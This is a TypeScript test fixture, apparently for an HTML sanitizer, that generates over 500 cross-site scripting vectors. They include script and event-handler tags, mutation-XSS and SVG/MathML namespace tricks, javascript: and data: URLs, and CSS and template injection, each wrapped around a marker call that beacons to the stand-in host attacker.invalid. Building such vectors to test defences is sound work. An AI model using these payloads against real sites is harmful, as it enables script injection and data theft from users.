/**
 * What is tried to make script run out of a text (F30). Each carrier is written from the kinds of attack that are publicly known (mutation,
 * namespace confusion, obfuscated schemes, CSS, templates); each holds the call that must never be made, in several disguises.
 */

/** Would be noticed: it counts, and asks a host that nobody else asks. */
const CALL = "window.ran=(window.ran||0)+1,new Image().src='https://attacker.invalid/x'";

/** Characters as HTML entities. */
const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const hex = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)}`).join('');

/** The call as it is and disguised. */
const CALLS = [
  CALL,
  `eval(atob('${btoa(CALL)}'))`,
  entities(CALL),
  hex(CALL),
  `(()=>{${CALL}})()`,
  `setTimeout(\`${CALL}\`)`,
  `Function("${CALL}")()`,
  `top[/al/.source+'ert']||(${CALL})`,
];

/** How elements carry a call. */
const ELEMENTS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</title></style></noscript><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `'><img src=x onerror='${call}'>`,
  (call) => `<img/src="x"/onerror="${call}">`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>x</text></a></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<math><mi><table><mglyph><style><math><![CDATA[</style><img src onerror="${call}">]]>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
  (call) => `<style><style/><img src=x onerror="${call}">`,
  (call) => `<template><img src=x onerror="${call}"></template>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src onloadstart="${call}">`,
  (call) => `<body onload="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<div style="background:url(javascript:${call})">`,
  (call) => `<div style="width:expression(${call})">`,
  (call) => `<x onclick="${call}" tabindex=1 autofocus onfocus="${call}">`,
  (call) => `<xss style="animation-name:fade" onanimationstart="${call}"></xss>`,
  (call) => `<!--><img src=x onerror="${call}">-->`,
  (call) => `<![CDATA[><img src=x onerror="${call}">]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `\u0000<img src=x onerror="${call}">`,
  (call) => `\u202e<img src=x onerror="${call}">`,
];

/** How addresses do. */
const ADDRESSES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \t\n javascript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\0script:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `//javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>opener.${unescape(encodeURIComponent(call))}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `vbscript:${call}`,
  (call) => `blob:null/${call}`,
  (call) => `filesystem:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `https://ok.example/"onmouseover="${call}`,
  (call) => `https://attacker.invalid@ok.example/${call}`,
];

/** How style and template languages do. */
const OTHERS: ((call: string) => string)[] = [
  (call) => `red;background:url("javascript:${call}")`,
  () => `#ffffff;}*{background:url(https://attacker.invalid/x)`,
  (call) => `expression(${call})`,
  (call) => `{{constructor.constructor("${call.replaceAll('"', "'")}")()}}`,
  (call) => `{{ visitor.constructor | default: "${call.replaceAll('"', "'")}" }}`,
  (call) => `{{ visitor.__proto__.x | ${call} }}`,
  (call) => `{{{{ visitor.name }}}}${call}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{% ${call} %}`,
  (call) => `[x](javascript:${call})`,
  (call) => `[x](data:text/html,<script>${call}</script>)`,
  (call) => `**<img src=x onerror="${call}">**`,
];

/** All of them: more than 500 different ones. */
export const VECTORS = [
  ...new Set([...ELEMENTS, ...ADDRESSES, ...OTHERS].flatMap((carry) => CALLS.map((call) => carry(call)))),
];
